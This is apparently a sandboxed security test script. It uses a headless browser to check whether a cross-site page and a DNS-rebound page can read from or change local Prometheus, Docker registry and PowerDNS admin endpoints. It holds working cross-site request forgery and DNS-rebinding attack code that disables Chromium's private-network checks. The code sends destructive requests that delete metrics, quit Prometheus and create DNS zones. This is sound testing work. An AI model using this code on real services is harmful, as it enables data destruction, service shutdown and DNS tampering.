// What a web page of another site, and one whose own name has been pointed at an address, do to the real services: reads and changes, each
// known by its name. Prints which reads succeeded, as JSON. Runs inside a sandbox; the arguments are targets as JSON:
// [{ service, address: 'http://127.0.0.3:9090', listen: '127.0.0.3:9090' }].
import { createServer } from 'node:http'
import { chromium } from 'playwright-core'

const targets = JSON.parse(process.argv[2] ?? '[]')
const paths = {
  prometheus: {
    reads: ['/api/v1/status/config'],
    changes: ['/api/v1/admin/tsdb/delete_series?match[]=up', '/api/v1/admin/tsdb/clean_tombstones', '/-/quit'],
  },
  registry: { reads: ['/v2/_catalog'], changes: ['/v2/evil/page/blobs/uploads/'] },
  powerdns: { reads: ['/metrics', '/api/v1/servers'], changes: ['/api/v1/servers/localhost/zones'] },
}

const site = createServer((_, response) => response.setHeader('content-type', 'text/html').end('<body>evil'))
await new Promise(resolve => site.listen(0, '127.0.0.1', resolve))
const { port } = site.address()

/** Runs in a page: whether anything of the address can be read; changes are sent and nothing more. */
const attack = async ({ base, reads, changes }) => {
  const within = promise => Promise.race([promise, new Promise(resolve => setTimeout(resolve, 3000, false))])
  const read = []
  for (const path of reads) {
    const text = await within(
      fetch(base + path)
        .then(response => response.ok && response.text())
        .catch(() => false),
    )
    if (text) read.push(path)
  }
  for (const path of changes) {
    await within(
      fetch(base + path, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ a: 'b' }) }).catch(() => {}),
    )
    const form = document.createElement('form')
    const frame = document.createElement('iframe')
    frame.name = `frame${Math.random()}`
    Object.assign(form, { method: 'POST', action: base + path, target: frame.name })
    document.body.append(frame, form)
    form.submit()
    await new Promise(resolve => setTimeout(resolve, 500))
  }
  return read
}

/** A page that could end a program leaves one that has just been started again: it is waited for until it answers three times in a row. */
async function settled(url) {
  for (let tries = 0, answered = 0; tries < 60 && answered < 3; tries += 1) {
    const answer = await fetch(url, { signal: AbortSignal.timeout(1000) }).catch(() => undefined)
    await answer?.arrayBuffer()
    answered = answer === undefined ? 0 : answered + 1
    await new Promise(resolve => setTimeout(resolve, 500))
  }
}

const results = []
for (const { service, address, listen } of targets) {
  const browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests',
      `--host-resolver-rules=MAP rebound.evil.example ${listen},MAP evil.example 127.0.0.1`,
    ],
  })
  const { reads, changes } = paths[service]
  const page = await browser.newPage()
  await page.goto(`http://evil.example:${port}/`)
  const foreign = await page.evaluate(attack, { base: address, reads, changes })

  const context = await browser.newContext()
  const own = `http://rebound.evil.example:${listen.split(':')[1]}`
  await context.route(`${own}/`, route => route.fulfill({ contentType: 'text/html', body: '<body>' }))
  const second = await context.newPage()
  await second.goto(`${own}/`)
  await settled(address)
  const rebound = await second.evaluate(attack, { base: own, reads, changes })
  results.push({ service, address, foreign, rebound })
  await browser.close()
}
site.close()
process.stdout.write(JSON.stringify(results))
